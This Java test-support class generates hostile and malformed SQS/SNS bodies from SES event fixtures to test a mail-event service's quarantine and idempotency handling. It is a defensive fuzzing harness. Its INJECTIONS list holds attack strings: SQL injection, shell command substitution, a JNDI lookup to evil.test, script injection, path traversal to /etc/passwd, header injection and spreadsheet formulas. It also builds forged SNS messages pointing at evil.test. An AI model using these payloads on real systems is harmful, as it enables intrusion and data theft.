package org.mailpulse.reliability;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import org.mailpulse.testsupport.SesFixtures;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * Deterministic hostile SQS bodies: mutations of valid SES records, raw or in SNS envelopes. Every body carries a
 * tag ({@code hx<run>-<index>-}) at the start of its {@code mail.messageId} whenever that field is still a string,
 * so that an applied body can be found by its SES message id; a quarantined one is found by the SQS message id
 * that SQS gave it. Each body says what the service must do with it.
 */
final class HostileBodies {

    /** What the service must do with a body. */
    enum Expect {
        /** applied exactly once (a history row for its tag) */
        APPLIED,
        /** quarantined with a reason and its body */
        QUARANTINED,
        /** recognised SNS control message: logged and deleted */
        IGNORED,
        /** an exact copy of an applied body: recognised as already applied */
        DUPLICATE,
        /** tolerable either way (applied or quarantined), never lost */
        EITHER
    }

    record Body(int index, String tag, String kind, String text, Expect expect) {
    }

    static final int HUGE = 200_000;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings an attacker would put anywhere; none holds U+0000 (that is its own mutation). */
    static final List<String> INJECTIONS = List.of(
            "' OR 1=1--", "'; DROP TABLE customers;--", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)", "$(reboot)", "`id`",
            "{{7*7}}", "${jndi:ldap://evil.test/a}", "<script>alert(1)</script>", "../../../../etc/passwd", "..%2f..%2f",
            "%00", "\r\nBcc: attacker@evil.test", "\nX-Injected: yes", "=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)",
            "{\"$gt\":\"\"}", "%s%n%x", "\\", "\u202Eevil\u202C", "\uD83D\uDCA3", "\u200B\u200D", "Ã©Ã¨", "NaN", "null");

    private final String run;
    private final Random random;
    private final List<String> fixtures = new ArrayList<>();
    private final List<Body> appliedSoFar = new ArrayList<>();

    HostileBodies(String run, long seed) {
        this.run = run;
        this.random = new Random(seed);
        fixtures.addAll(SesFixtures.publishingFixtures());
        fixtures.addAll(SesFixtures.notificationFixtures());
    }

    String tagPrefix() {
        return "hx" + run + "-";
    }

    String tag(int index) {
        return tagPrefix() + index + "-";
    }

    List<Body> generate(int count) {
        List<Body> bodies = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            Body body = one(i);
            bodies.add(body);
            if (body.expect() == Expect.APPLIED && body.text().length() < 20_000) {
                appliedSoFar.add(body);
            }
        }
        return bodies;
    }

    // ------------------------------------------------------------------------------------------------ one body

    private Body one(int i) {
        Base base = base(i);
        int roll = random.nextInt(1000);
        if (roll < 60) {
            return base.finish("valid", Expect.APPLIED);
        }
        if (roll < 90 && !appliedSoFar.isEmpty()) {
            Body original = appliedSoFar.get(random.nextInt(appliedSoFar.size()));
            return new Body(i, original.tag(), "duplicate of #" + original.index(), original.text(), Expect.DUPLICATE);
        }
        if (roll < 200) {
            return truncated(base);
        }
        if (roll < 400) {
            return wrongType(base);
        }
        if (roll < 530) {
            return missing(base);
        }
        if (roll < 545) {
            return huge(base);
        }
        if (roll < 575) {
            return deep(base);
        }
        if (roll < 690) {
            return unicode(base);
        }
        if (roll < 770) {
            return injected(base);
        }
        if (roll < 820) {
            return unknownType(base);
        }
        if (roll < 870) {
            return timeConfusion(base);
        }
        if (roll < 900) {
            return structural(base);
        }
        return envelopeMutation(base);
    }

    /** A valid record of a random fixture, raw or about to be wrapped in an SNS envelope. */
    private Base base(int i) {
        String fixture = fixtures.get(random.nextInt(fixtures.size()));
        String tag = tag(i);
        String raw = SesFixtures.event(fixture).messageId(tag + "m").recipient("h" + i + "-" + run + "@hostile.test")
                .eventTimestamp(SesFixtures.DEFAULT_TIMESTAMP.plusSeconds(i)).raw();
        try {
            return new Base(i, tag, fixture, (ObjectNode) JSON.readTree(raw), random.nextBoolean());
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private final class Base {
        final int index;
        final String tag;
        final String fixture;
        final ObjectNode record;
        final boolean sns;
        final String typeKey;
        final String typeName;
        final String detailField;
        final boolean requiresDetail;

        Base(int index, String tag, String fixture, ObjectNode record, boolean sns) {
            this.index = index;
            this.tag = tag;
            this.fixture = fixture;
            this.record = record;
            this.sns = sns;
            this.typeKey = record.has("eventType") ? "eventType" : "notificationType";
            this.typeName = record.get(typeKey).asText();
            this.detailField = switch (typeName) {
                case "Rendering Failure" -> "failure";
                case "DeliveryDelay" -> "deliveryDelay";
                default -> typeName.toLowerCase();
            };
            this.requiresDetail = !List.of("Send", "Reject", "Rendering Failure").contains(typeName);
        }

        ObjectNode mail() {
            return (ObjectNode) record.get("mail");
        }

        ObjectNode detail() {
            JsonNode d = record.get(detailField);
            return d instanceof ObjectNode o ? o : null;
        }

        boolean hasOwnTime() {
            return detail() != null && detail().path("timestamp").isTextual();
        }

        /** The object and field holding this type's recipients, and whether its entries are objects. */
        Object[] recipients() {
            return switch (typeName) {
                case "Bounce" -> new Object[]{detail(), "bouncedRecipients", true};
                case "Complaint" -> new Object[]{detail(), "complainedRecipients", true};
                case "DeliveryDelay" -> new Object[]{detail(), "delayedRecipients", true};
                case "Delivery" -> new Object[]{detail(), "recipients", false};
                default -> new Object[]{mail(), "destination", false};
            };
        }

        String recordText() {
            return write(record);
        }

        Body finish(String kind, Expect expect) {
            return finishText(kind, recordText(), expect);
        }

        /** Wraps the (possibly broken) record text if this body goes through SNS. */
        Body finishText(String kind, String recordText, Expect expect) {
            if (!sns) {
                return new Body(index, tag, "raw " + kind, recordText, expect);
            }
            return new Body(index, tag, "sns " + kind, write(envelope(recordText)), expect);
        }

        ObjectNode envelope(String message) {
            ObjectNode envelope = NODES.objectNode();
            envelope.put("Type", "Notification");
            envelope.put("MessageId", tag + "sns");
            envelope.put("TopicArn", SesFixtures.TOPIC_ARN);
            envelope.put("Subject", SesFixtures.SNS_SUBJECT);
            envelope.put("Message", message);
            envelope.put("Timestamp", SesFixtures.sesTimestamp(SesFixtures.DEFAULT_TIMESTAMP));
            envelope.put("SignatureVersion", "1");
            envelope.put("Signature", "EXAMPLE");
            envelope.put("SigningCertURL", SesFixtures.SIGNING_CERT_URL);
            envelope.put("UnsubscribeURL", SesFixtures.UNSUBSCRIBE_URL);
            return envelope;
        }
    }

    // ------------------------------------------------------------------------------------------------ mutations

    private Body truncated(Base b) {
        String full = b.sns ? write(b.envelope(b.recordText())) : b.recordText();
        if (b.sns && random.nextBoolean()) {
            String record = b.recordText();
            String cut = record.substring(0, 1 + random.nextInt(record.length() - 1));
            return new Body(b.index, b.tag, "sns message truncated", write(b.envelope(cut)), Expect.QUARANTINED);
        }
        int at = 1 + random.nextInt(full.length() - 1);
        String cut = full.substring(0, at);
        if (cut.isBlank()) {
            cut = full.substring(0, Math.min(full.length() - 1, at + 3));
        }
        return new Body(b.index, b.tag, (b.sns ? "sns" : "raw") + " truncated", cut, Expect.QUARANTINED);
    }

    private static final List<Supplier<JsonNode>> WRONG = List.of(
            () -> NODES.numberNode(42), () -> NODES.booleanNode(true), NODES::arrayNode, NODES::objectNode, NODES::nullNode,
            () -> NODES.numberNode(1.5e308), () -> NODES.arrayNode().add("x"));

    private Body wrongType(Base b) {
        JsonNode wrong = WRONG.get(random.nextInt(WRONG.size())).get();
        boolean isNull = wrong.isNull();
        boolean emptyArray = wrong.isArray() && wrong.isEmpty();
        int which = random.nextInt(11);
        String what;
        Expect expect;
        switch (which) {
            case 0 -> {
                b.record.set(b.typeKey, wrong);
                what = b.typeKey;
                expect = Expect.QUARANTINED;
            }
            case 1 -> {
                b.record.set("mail", wrong);
                what = "mail";
                expect = Expect.QUARANTINED;
            }
            case 2 -> {
                b.mail().set("messageId", wrong);
                what = "mail.messageId";
                expect = Expect.QUARANTINED;
            }
            case 3 -> {
                b.mail().set("timestamp", wrong);
                what = "mail.timestamp";
                expect = isNull ? (b.hasOwnTime() ? Expect.APPLIED : Expect.QUARANTINED) : Expect.QUARANTINED;
            }
            case 4 -> {
                b.record.set(b.detailField, wrong);
                what = b.detailField;
                // an empty object is an object: only the types that read their recipients from it then lack them
                expect = wrong.isObject() && !List.of("Bounce", "Complaint", "DeliveryDelay").contains(b.typeName)
                        ? Expect.APPLIED : Expect.QUARANTINED;
            }
            case 5 -> {
                if (b.detail() == null || !b.detail().has("timestamp")) {
                    b.mail().set("source", wrong);
                    what = "mail.source";
                    expect = Expect.APPLIED;
                } else {
                    b.detail().set("timestamp", wrong);
                    what = b.detailField + ".timestamp";
                    expect = isNull ? Expect.APPLIED : Expect.QUARANTINED;
                }
            }
            case 6 -> {
                Object[] r = b.recipients();
                ObjectNode holder = (ObjectNode) r[0];
                String field = (String) r[1];
                boolean objects = (Boolean) r[2];
                holder.set(field, wrong);
                what = field;
                // an empty list is a list; ["x"] is a list of addresses only where the entries are strings
                expect = emptyArray || (!objects && wrong.isArray()) ? Expect.APPLIED : Expect.QUARANTINED;
            }
            case 7 -> {
                Object[] r = b.recipients();
                ObjectNode holder = (ObjectNode) r[0];
                String field = (String) r[1];
                ArrayNode entries = NODES.arrayNode();
                entries.add(wrong.isTextual() ? NODES.numberNode(7) : wrong);
                holder.set(field, entries);
                what = field + "[0]";
                expect = Expect.QUARANTINED;
            }
            default -> {
                // fields the service reads leniently or not at all
                String[] tolerant = {"source", "commonHeaders", "headers", "tags", "sourceArn", "sendingAccountId", "headersTruncated"};
                String field = tolerant[random.nextInt(tolerant.length)];
                b.mail().set(field, wrong);
                what = "mail." + field;
                expect = Expect.APPLIED;
            }
        }
        return b.finish("wrong type " + what + "=" + write(wrong), expect);
    }

    private Body missing(Base b) {
        int which = random.nextInt(9);
        String what;
        Expect expect;
        switch (which) {
            case 0 -> {
                b.record.remove(b.typeKey);
                what = b.typeKey;
                expect = Expect.QUARANTINED;
            }
            case 1 -> {
                b.record.remove("mail");
                what = "mail";
                expect = Expect.QUARANTINED;
            }
            case 2 -> {
                b.mail().remove("messageId");
                what = "mail.messageId";
                expect = Expect.QUARANTINED;
            }
            case 3 -> {
                b.mail().remove("timestamp");
                what = "mail.timestamp";
                expect = b.hasOwnTime() ? Expect.APPLIED : Expect.QUARANTINED;
            }
            case 4 -> {
                b.record.remove(b.detailField);
                what = b.detailField;
                expect = b.requiresDetail ? Expect.QUARANTINED : Expect.APPLIED;
            }
            case 5 -> {
                Object[] r = b.recipients();
                ((ObjectNode) r[0]).remove((String) r[1]);
                what = (String) r[1];
                expect = (Boolean) r[2] ? Expect.QUARANTINED : Expect.APPLIED;
            }
            case 6 -> {
                if (b.detail() != null && b.detail().has("timestamp")) {
                    b.detail().remove("timestamp");
                    what = b.detailField + ".timestamp";
                } else {
                    b.mail().remove("commonHeaders");
                    what = "mail.commonHeaders";
                }
                expect = Expect.APPLIED;
            }
            case 7 -> {
                b.mail().remove(List.of("source", "headers", "tags", "commonHeaders", "destination"));
                what = "mail.source/headers/tags/commonHeaders/destination";
                expect = b.recipients()[1].equals("destination") ? Expect.APPLIED : Expect.APPLIED;
            }
            default -> {
                // everything but the essentials: the minimal record still applies
                ObjectNode minimal = NODES.objectNode();
                minimal.set(b.typeKey, b.record.get(b.typeKey));
                ObjectNode mail = NODES.objectNode();
                mail.set("messageId", b.mail().get("messageId"));
                mail.set("timestamp", b.mail().get("timestamp"));
                minimal.set("mail", mail);
                if (b.detail() != null) {
                    minimal.set(b.detailField, b.detail());
                }
                b.record.removeAll();
                b.record.setAll(minimal);
                what = "all optional fields";
                expect = Expect.APPLIED;
            }
        }
        return b.finish("missing " + what, expect);
    }

    private Body huge(Base b) {
        String big = letters(HUGE);
        int which = random.nextInt(5);
        switch (which) {
            case 0 -> {
                b.mail().put("messageId", b.tag + "m" + big);
                return b.finish("huge mail.messageId", Expect.EITHER);
            }
            case 1 -> {
                b.mail().put("source", big + "@example.com");
                return b.finish("huge mail.source", Expect.APPLIED);
            }
            case 2 -> {
                b.record.put("unknownField", big);
                return b.finish("huge unknown field", Expect.APPLIED);
            }
            case 3 -> {
                // not JSON at all: a huge plain text
                return new Body(b.index, b.tag, "huge plain text", "not json " + big, Expect.QUARANTINED);
            }
            default -> {
                if (b.sns) {
                    ObjectNode envelope = b.envelope(b.recordText());
                    envelope.put("MessageId", b.tag + "sns" + big);
                    return new Body(b.index, b.tag, "sns huge MessageId", write(envelope), Expect.EITHER);
                }
                if (b.mail().path("commonHeaders") instanceof ObjectNode common) {
                    common.put("subject", big);
                    return b.finish("huge subject", Expect.APPLIED);
                }
                b.mail().put("source", big);
                return b.finish("huge mail.source", Expect.APPLIED);
            }
        }
    }

    private Body deep(Base b) {
        boolean tooDeep = random.nextInt(3) > 0;
        int depth = tooDeep ? 5_000 : 400;
        boolean arrays = random.nextBoolean();
        StringBuilder nested = new StringBuilder(depth * 6);
        for (int d = 0; d < depth; d++) {
            nested.append(arrays ? "[" : "{\"a\":");
        }
        nested.append("1");
        for (int d = 0; d < depth; d++) {
            nested.append(arrays ? "]" : "}");
        }
        String record = b.recordText();
        String text = record.substring(0, record.length() - 1) + ",\"nested\":" + nested + "}";
        String kind = "nesting " + depth + (arrays ? " arrays" : " objects");
        // Jackson refuses more than 1,000 levels: such a body can only be quarantined; 400 levels in an unknown field are ignored.
        return b.finishText(kind, text, tooDeep ? Expect.QUARANTINED : Expect.APPLIED);
    }

    /** Escaped and raw characters that are not what an SES record holds. */
    private Body unicode(Base b) {
        int which = random.nextInt(12);
        String record;
        switch (which) {
            case 0 -> {
                // U+0000 in a text column: PostgreSQL refuses it, only that event is quarantined
                b.mail().put("messageId", b.tag + "m\u0000x");
                return b.finish("U+0000 in mail.messageId", Expect.QUARANTINED);
            }
            case 1 -> {
                b.mail().put("source", "a\u0000b@example.com");
                return b.finish("U+0000 in mail.source", Expect.QUARANTINED);
            }
            case 2 -> {
                // inside the detail object the service stores JSON, where U+0000 is replaced
                ObjectNode detail = b.detail() != null ? b.detail() : b.mail();
                detail.put("note", "nul\u0000here");
                return b.finish("U+0000 in detail", Expect.APPLIED);
            }
            case 3 -> {
                record = b.recordText().replace("\"m\"", "\"m\\ud800x\"").replace(b.tag + "m\"", b.tag + "m\\ud800\"");
                return b.finishText("lone surrogate escape in mail.messageId", record, Expect.EITHER);
            }
            case 4 -> {
                b.mail().put("source", "SURROGATES@example.com");
                record = b.recordText().replace("SURROGATES", "\\udc00\\ud800");
                return b.finishText("lone surrogate escapes in mail.source", record, Expect.EITHER);
            }
            case 5 -> {
                record = inMessageId(b, "\u0001\u001f");
                return b.finishText("raw control characters in strings", record, b.sns ? Expect.QUARANTINED : Expect.QUARANTINED);
            }
            case 6 -> {
                record = inMessageId(b, "\t");
                return b.finishText("raw TAB in a string", record, Expect.QUARANTINED);
            }
            case 7 -> {
                b.mail().put("messageId", b.tag + "mNONCHARS");
                record = b.recordText().replace("NONCHARS", "\\ufffe\\uffff");
                return b.finishText("escaped U+FFFE U+FFFF in mail.messageId", record, Expect.EITHER);
            }
            case 8 -> {
                b.mail().put("messageId", b.tag + "m\uD83D\uDCA3\u202E\u200B\u00C3\u00A9");
                return b.finish("emoji RTL zero-width mojibake in mail.messageId", Expect.APPLIED);
            }
            case 9 -> {
                return new Body(b.index, b.tag, "BOM before JSON", "\uFEFF" + (b.sns ? write(b.envelope(b.recordText())) : b.recordText()), Expect.EITHER);
            }
            case 10 -> {
                record = inMessageId(b, "\\x41");
                return b.finishText("invalid escape \\x41", record, Expect.QUARANTINED);
            }
            default -> {
                record = inMessageId(b, "\\u12");
                return b.finishText("incomplete escape \\u12", record, Expect.QUARANTINED);
            }
        }
    }

    private Body injected(Base b) {
        String payload = INJECTIONS.get(random.nextInt(INJECTIONS.size()));
        int which = random.nextInt(5);
        switch (which) {
            case 0 -> {
                b.mail().put("messageId", b.tag + "m" + payload);
                return b.finish("injection in mail.messageId", Expect.APPLIED);
            }
            case 1 -> {
                b.mail().put("source", payload);
                return b.finish("injection in mail.source", Expect.APPLIED);
            }
            case 2 -> {
                JsonNode common = b.mail().path("commonHeaders");
                if (common instanceof ObjectNode o) {
                    o.put("subject", payload);
                }
                return b.finish("injection in subject", Expect.APPLIED);
            }
            case 3 -> {
                ArrayNode headers = (ArrayNode) b.mail().withArray("headers");
                for (JsonNode h : headers) {
                    if ("user_id".equals(h.path("name").asText()) || "report_type".equals(h.path("name").asText())) {
                        ((ObjectNode) h).put("value", payload);
                    }
                }
                return b.finish("injection in user_id/report_type headers", Expect.APPLIED);
            }
            default -> {
                Object[] r = b.recipients();
                ObjectNode holder = (ObjectNode) r[0];
                ArrayNode entries = NODES.arrayNode();
                String address = "x" + payload + "@hostile.test";
                if ((Boolean) r[2]) {
                    entries.addObject().put("emailAddress", address);
                } else {
                    entries.add(address);
                }
                holder.set((String) r[1], entries);
                // Stored verbatim in history and report, or refused by a constraint of the suppression list: both are fine.
                return b.finish("injection in recipient", Expect.EITHER);
            }
        }
    }

    private Body unknownType(Base b) {
        String[] names = {"Delivered", "delivery", "DELIVERY", " Delivery", "Delivery\n", "Bounce\u0000", "Rendering_Failure",
                "", "AmazonSnsSubscriptionSucceededX", "eventType", "' OR 1=1--", letters(300)};
        String name = names[random.nextInt(names.length)];
        b.record.put(b.typeKey, name);
        return b.finish("unknown type '" + abbreviate(name) + "'", Expect.QUARANTINED);
    }

    private Body timeConfusion(Base b) {
        String[] bad = {"yesterday", "1767225600", "2026-13-45T00:00:00Z", "2026-01-01", "2026-01-01 00:00:00", "",
                "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "9999-99-99T99:99:99Z"};
        int which = random.nextInt(4);
        if (which == 0) {
            b.mail().put("timestamp", 1767225600L);
            return b.finish("mail.timestamp as epoch number", Expect.QUARANTINED);
        }
        if (which == 1) {
            b.mail().put("timestamp", "0001-01-01T00:00:00Z");
            if (b.detail() != null && b.detail().has("timestamp")) {
                b.detail().put("timestamp", "0001-01-01T00:00:00.000Z");
            }
            return b.finish("year 1 timestamps", Expect.QUARANTINED);
        }
        String value = bad[random.nextInt(bad.length)];
        // SES times lie between 1970 and 9999; anything else (PostgreSQL would store 'infinity' or a BC date) is quarantined
        if (which == 2 || b.detail() == null || !b.detail().has("timestamp")) {
            b.mail().put("timestamp", value);
            return b.finish("mail.timestamp '" + value + "'", Expect.QUARANTINED);
        }
        b.detail().put("timestamp", value);
        return b.finish(b.detailField + ".timestamp '" + value + "'", Expect.QUARANTINED);
    }

    private Body structural(Base b) {
        String record = b.recordText();
        int which = random.nextInt(6);
        return switch (which) {
            case 0 -> b.finishText("record wrapped in an array", "[" + record + "]", Expect.QUARANTINED);
            case 1 -> b.finishText("record as a JSON string", write(TextNode.valueOf(record)), Expect.QUARANTINED);
            // which of two equal keys is meant is ambiguous: refused, not read one way
            case 2 -> b.finishText("duplicate eventType key", "{\"" + b.typeKey + "\":\"Nonsense\"," + record.substring(1), Expect.QUARANTINED);
            case 3 -> b.finishText("trailing garbage", record + " }{garbage", Expect.QUARANTINED);
            case 4 -> b.finishText("numbers as strings", record.replace("\"headersTruncated\":false", "\"headersTruncated\":\"false\"")
                    .replace("\"processingTimeMillis\":", "\"processingTimeMillis\":\"1\",\"x\":"), Expect.APPLIED);
            default -> b.finishText("comments and single quotes", "/* c */ {'eventType': 'Send'}", Expect.QUARANTINED);
        };
    }

    private Body envelopeMutation(Base b) {
        ObjectNode envelope = b.envelope(b.recordText());
        int which = random.nextInt(14);
        String what;
        Expect expect;
        switch (which) {
            case 0 -> {
                envelope.remove("Type");
                what = "no Type";
                expect = Expect.QUARANTINED;
            }
            case 1 -> {
                envelope.set("Type", WRONG.get(random.nextInt(WRONG.size())).get());
                what = "Type of a wrong type";
                expect = Expect.QUARANTINED;
            }
            case 2 -> {
                envelope.put("Type", random.nextBoolean() ? "notification" : "Notification ");
                what = "Type misspelt";
                expect = Expect.QUARANTINED;
            }
            case 3 -> {
                envelope.put("Type", random.nextBoolean() ? "SubscriptionConfirmation" : "UnsubscribeConfirmation");
                envelope.put("SubscribeURL", "https://evil.test/confirm");
                what = "forged subscription control message";
                expect = Expect.IGNORED;
            }
            case 4 -> {
                envelope.remove("Message");
                what = "no Message";
                expect = Expect.QUARANTINED;
            }
            case 5 -> {
                envelope.set("Message", random.nextBoolean() ? NODES.nullNode() : NODES.numberNode(7));
                what = "Message null or number";
                expect = Expect.QUARANTINED;
            }
            case 6 -> {
                envelope.set("Message", b.record);
                what = "Message as an object";
                expect = Expect.QUARANTINED;
            }
            case 7 -> {
                envelope.put("Message", write(TextNode.valueOf(b.recordText())));
                what = "Message double-encoded";
                expect = Expect.QUARANTINED;
            }
            case 8 -> {
                envelope.put("Message", "");
                what = "Message empty";
                expect = Expect.QUARANTINED;
            }
            case 9 -> {
                envelope.put("Message", "Successfully validated SNS topic for Amazon SES event publishing.");
                what = "topic validation text";
                expect = Expect.IGNORED;
            }
            case 10 -> {
                envelope.remove("MessageId");
                what = "no MessageId (key derived from the record)";
                expect = Expect.APPLIED;
            }
            case 11 -> {
                envelope.set("MessageId", random.nextBoolean() ? NODES.objectNode() : NODES.arrayNode());
                what = "MessageId object or array (key derived from the record)";
                expect = Expect.APPLIED;
            }
            case 12 -> {
                envelope.put("MessageId", b.tag + "sns" + INJECTIONS.get(random.nextInt(INJECTIONS.size())));
                what = "injection in MessageId";
                expect = Expect.APPLIED;
            }
            default -> {
                envelope.set("Timestamp", NODES.numberNode(12));
                envelope.set("Subject", NODES.arrayNode());
                envelope.put("Signature", "forged");
                envelope.put("SigningCertURL", "http://evil.test/cert.pem");
                what = "forged signature, wrong Timestamp and Subject types";
                expect = Expect.APPLIED;
            }
        }
        return new Body(b.index, b.tag, "sns envelope " + what, write(envelope), expect);
    }

    // ------------------------------------------------------------------------------------------------ helpers

    /** Candidates SQS itself may refuse (characters outside its allowed set); sent one at a time and counted apart. */
    static List<String> sqsHostileCharacters() {
        return List.of("\u0000", "\u0001", "\u0008", "\u001f", "\uFFFE", "\uFFFF", "\uD800", "\uDC00x");
    }

    Body withRawCharacter(int i, String character) {
        Base b = base(i);
        String record = inMessageId(b, character);
        // raw control characters inside a JSON string are not JSON; U+FFFE/U+FFFF are legal in JSON text
        boolean control = character.charAt(0) < 0x20;
        return b.finishText("raw U+" + String.format("%04X", (int) character.charAt(0)) + " in body", record,
                control ? Expect.QUARANTINED : Expect.EITHER);
    }

    /** The record's text with {@code text} put verbatim (not JSON-escaped) into every copy of its message id. */
    private static String inMessageId(Base b, String text) {
        String record = b.recordText();
        String id = b.tag + "m\"";
        if (!record.contains(id)) {
            throw new IllegalStateException("no message id in " + b.fixture);
        }
        return record.replace(id, b.tag + "m" + text + "\"");
    }

    private String letters(int n) {
        char[] chars = new char[n];
        for (int i = 0; i < n; i++) {
            chars[i] = (char) ('a' + random.nextInt(26));
        }
        return new String(chars);
    }

    private static String abbreviate(String s) {
        String printable = s.replace("\n", "\\n").replace("\u0000", "\\0");
        return printable.length() <= 20 ? printable : printable.substring(0, 20) + "…";
    }

    static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static Map<Expect, Long> tally(List<Body> bodies) {
        Map<Expect, Long> counts = new java.util.EnumMap<>(Expect.class);
        for (Body b : bodies) {
            counts.merge(b.expect(), 1L, Long::sum);
        }
        return counts;
    }
}
